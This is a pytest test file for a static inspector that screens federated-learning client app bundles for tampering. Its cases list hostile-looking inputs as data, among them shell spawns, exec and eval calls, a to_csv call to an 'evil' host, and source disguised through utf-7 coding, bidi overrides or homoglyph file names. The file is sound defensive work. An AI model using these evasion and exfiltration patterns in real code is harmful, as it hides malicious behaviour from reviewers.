"""What speaks against an app is seen without running it."""

from __future__ import annotations

from pathlib import Path

import pytest

from fedenclave.node.bundle import read_app, read_bundle
from fedenclave.node.inspection import inspect
from fedenclave.protocol.errors import ConfigurationError
from tests.node.apps import CLIENT_APP, SHADOW, WITHOUT_MOD, bundle, fab, files


def test_an_honest_app_has_nothing_against_it() -> None:
    seen = inspect(bundle(), None)
    assert seen.objections == ()
    assert seen.imports == ("fedenclave", "flwr")
    assert seen.plain()["confidential_mod_first"] is True


@pytest.mark.parametrize(
    "name", ["fedenclave/__init__.py", "fedenclave.py", "flwr/x.py", "json.py"]
)
def test_an_app_that_takes_the_place_of_an_installed_package_is_objected_to(name: str) -> None:
    seen = inspect(bundle(more={name: SHADOW}), None)
    assert any("would take the place" in each for each in seen.objections)


@pytest.mark.parametrize("name", ["sitecustomize.py", "numpy/__init__.py", "torch/a.py"])
def test_so_is_one_that_python_or_training_would_find_first(name: str) -> None:
    assert inspect(bundle(more={name: ""}), None).objections


LEFT_OUT = [
    WITHOUT_MOD,
    CLIENT_APP.replace("[confidential()]", "[other, confidential()]"),
    CLIENT_APP.replace("[confidential()]", "list_of_mods"),
    CLIENT_APP.replace("[confidential()]", "[*before, confidential()]"),
    CLIENT_APP.replace("from fedenclave.flower import", "from small.mine import"),
    CLIENT_APP.replace("import confidential", "import Confidential as confidential"),
    CLIENT_APP + "\napp = ClientApp()\n",
    CLIENT_APP + "\napp._mods = []\n",
    CLIENT_APP + "\napp._mods.clear()\n",
    CLIENT_APP + "\ndef confidential():\n    return None\n",
    CLIENT_APP + "\nfor app in [1]:\n    pass\n",
    CLIENT_APP.replace("app = ClientApp", "if True:\n    app = ClientApp"),
    CLIENT_APP.replace("from flwr.clientapp import ClientApp", "from x import y as ClientApp"),
]


@pytest.mark.parametrize("source", LEFT_OUT)
def test_an_app_whose_first_mod_cannot_be_seen_to_be_ours_is_objected_to(source: str) -> None:
    seen = inspect(bundle(client_app=source), None)
    assert any("first mod" in each for each in seen.objections)
    assert seen.plain()["confidential_mod_first"] is False


def test_a_lifespan_function_is_objected_to() -> None:
    source = CLIENT_APP + "\n\n@app.lifespan()\ndef first(context):\n    yield\n"
    assert any("lifespan" in each for each in inspect(bundle(client_app=source), None).objections)


def test_a_module_that_is_two_files_is_objected_to() -> None:
    seen = inspect(bundle(more={"small/client_app/__init__.py": ""}), None)
    assert any("no one file" in each for each in seen.objections)


@pytest.mark.parametrize(
    "line",
    [
        "import socket",
        "import urllib.request",
        "import subprocess",
        "import importlib",
        "eval('1')",
        "setattr(app, 'x', 1)",
        "os.system('x')",
        "other._registered_funcs.clear()",
        "other.__dict__",
        "import fedenclave.flower.mod",
        "from fedenclave.client.session import ClientSession",
    ],
)
def test_a_place_that_its_owner_is_to_look_at_is_named(line: str) -> None:
    (notice,) = inspect(bundle(more={"small/more.py": "\n" + line}), None).notices
    assert (notice.file, notice.line) == ("small/more.py", 2)


def test_what_it_depends_on_is_said_with_what_is_here() -> None:
    seen = inspect(bundle(dependencies='"numpy>=1", "no-such-thing-at-all"'), None)
    assert "numpy>=1 (here: " in seen.dependencies[0]
    assert "not installed" in seen.dependencies[1]


def test_an_app_that_names_another_manifest_is_objected_to() -> None:
    seen = inspect(bundle(manifest="sha256:00"), None)
    assert any("is made for manifest" in each for each in seen.objections)


@pytest.mark.parametrize("name", ["hospital", "scans", "bank", "simulation"])
def test_nothing_is_against_the_apps_of_this_project(name: str) -> None:
    pytest.importorskip("flwr")
    assert not inspect(read_app(Path(__file__).parents[2] / "clients" / name), None).objections


ID = "def _id():\n    return lambda m, c, call: call(m, c)\n\n\n"
ALSO_BOUND = {
    "match": CLIENT_APP.replace(
        "\napp = ", f"\n{ID}match _id:\n    case confidential:\n        pass\n\napp = "
    ),
    "match in a list": CLIENT_APP.replace(
        "\napp = ", "\nmatch [1]:\n    case [*confidential]:\n        pass\n\napp = "
    ),
    "match in a mapping": CLIENT_APP.replace(
        "\napp = ", "\nmatch {}:\n    case {**confidential}:\n        pass\n\napp = "
    ),
    "except": CLIENT_APP.replace(
        "\napp = ", "\ntry:\n    pass\nexcept ValueError as confidential:\n    pass\n\napp = "
    ),
    "the mod's code": CLIENT_APP.replace(
        "\napp = ", f"\n{ID}confidential.__code__ = _id.__code__\napp = "
    ),
    "the class's call": CLIENT_APP.replace("\napp = ", "\nClientApp.__call__ = print\napp = "),
}


@pytest.mark.parametrize("how", ALSO_BOUND)
def test_a_name_that_is_bound_or_changed_in_a_rarer_way_is_seen(how: str) -> None:
    seen = inspect(bundle(client_app=ALSO_BOUND[how]), None)
    assert any("first mod" in each for each in seen.objections)


@pytest.mark.parametrize("name", ["small/client_app.py", "small/more.py"])
def test_names_that_are_not_written_where_they_come_from_are_objected_to(name: str) -> None:
    line = "from small.server_app import *\n"
    app = bundle(client_app=line + CLIENT_APP) if "client" in name else bundle(more={name: line})
    assert any(f"{name}:1 has import *" in each for each in inspect(app, None).objections)


LIFESPANS = [
    CLIENT_APP + "\nclient = app\n\n\n@client.lifespan()\ndef f(context):\n    yield\n",
    CLIENT_APP + "\n\n@ClientApp.lifespan(app)\ndef f(context):\n    yield\n",
]


@pytest.mark.parametrize("source", LIFESPANS)
def test_a_lifespan_function_under_another_name_is_objected_to(source: str) -> None:
    assert any("lifespan" in each for each in inspect(bundle(client_app=source), None).objections)


def test_so_is_one_in_another_file() -> None:
    life = "def attach(a):\n    @a.lifespan()\n    def f(context):\n        yield\n"
    (objection,) = inspect(bundle(more={"small/life.py": life}), None).objections
    assert objection.startswith("small/life.py:2 names a lifespan function")


@pytest.mark.parametrize(
    "line",
    [
        "__path__ = [__path__[0] + '/current']",
        "import sys\nsys.modules['small.client_app'] = None",
        "from sys import modules as m",
        "f.__code__ = g.__code__",
        "C.__call__ = print",
        "import operator\noperator.attrgetter('_mods')(app)",
        "look(app, '_mods')",
        "import builtins\nbuiltins.exec('1')",
        "from builtins import eval as e",
        "e = eval",
        "import os\nos.spawnlp(0, 'sh')",
        "import os as o\no.execl('/bin/sh', 'sh')",
        "import os\nos.posix_spawnp('sh', [], {})",
        "import os\nos.forkpty()",
        "from os import system",
        "import logging.handlers",
        "from logging import handlers",
        "import torch\ntorch.hub.load('evil/repo', 'm')",
        "import torch\ntorch.load('x')",
        "from torch import load",
        "rows.to_csv('https://evil/x')",
        "rows.to_csv(f'https://evil/{x}')",
        "import webbrowser",
        "import imaplib",
        "from concurrent.futures import ProcessPoolExecutor",
        "import concurrent.futures as f\nf.ProcessPoolExecutor()",
        "import timeit",
        "größe = 1",
    ],
)
def test_the_rarer_ways_out_and_round_are_named(line: str) -> None:
    assert inspect(bundle(more={"small/more.py": line + "\n"}), None).notices


@pytest.mark.parametrize(
    "line",
    [
        '"""See https://example.org/paper."""',
        "import re\nre.compile('x')",
        "model.eval()",
        "class Scale:\n    def __call__(self, x):\n        return x",
        "import torch\ntorch.set_num_threads(1)",
        "import os\nos.path.join('a', 'b')",
        "from concurrent.futures import ThreadPoolExecutor",
        "print('Größe')",
    ],
)
def test_what_honest_code_is_full_of_is_not(line: str) -> None:
    assert not inspect(bundle(more={"small/more.py": line + "\n"}), None).notices


DISGUISED = {
    "utf-7": b"# coding: utf-7\n# harmless +AAo-import os\n",
    "unicode_escape": b"# coding: unicode_escape\n# harmless \\u000aimport os\n",
    "latin-1": b"# coding: latin-1\n",
    "turned": "def ok(x):\n    '''Say \u202e\u2066if approved\u2069'''; return x\n".encode(),
    "nothing to see": "x = '\u200b'\n".encode(),
    "a line's end that many do not show": b"# harmless\rimport os\n",
    "erased on a terminal": b"# harmless\x1b[2K\n",
}


@pytest.mark.parametrize("how", DISGUISED)
def test_a_file_that_a_reader_sees_otherwise_than_python_is_objected_to(how: str) -> None:
    app = {**files(), "small/more.py": DISGUISED[how]}
    (objection,) = inspect(read_bundle(fab(app)), None).objections
    assert objection.startswith("small/more.py")


@pytest.mark.parametrize(
    "plain", ["# Größe\n", "\ufeffx = 1\n", "# coding: utf-8\r\nx = 1\r\n", "\x0cx = '日本'\n"]
)
def test_other_languages_and_systems_are_no_disguise(plain: str) -> None:
    app = {**files(), "small/more.py": plain.encode()}
    assert not inspect(read_bundle(fab(app)), None).objections


def test_turned_text_is_objected_to_in_a_page_too() -> None:
    app = {**files(), "README.md": "Safe \u202e!".encode()}
    assert inspect(read_bundle(fab(app)), None).objections


def test_a_file_whose_name_looks_like_another_is_objected_to() -> None:
    app = files(more={"small/client_\u0430pp.py": CLIENT_APP})
    (objection,) = inspect(read_bundle(fab(app)), None).objections
    assert "not ASCII" in objection


def test_an_app_that_names_such_a_module_is_no_app() -> None:
    app = files(more={"small/client_\u0430pp.py": CLIENT_APP})
    app["pyproject.toml"] = app["pyproject.toml"].replace(
        b"small.client_app:app", "small.client_\u0430pp:app".encode()
    )
    with pytest.raises(ConfigurationError, match="want module:name"):
        read_bundle(fab(app))
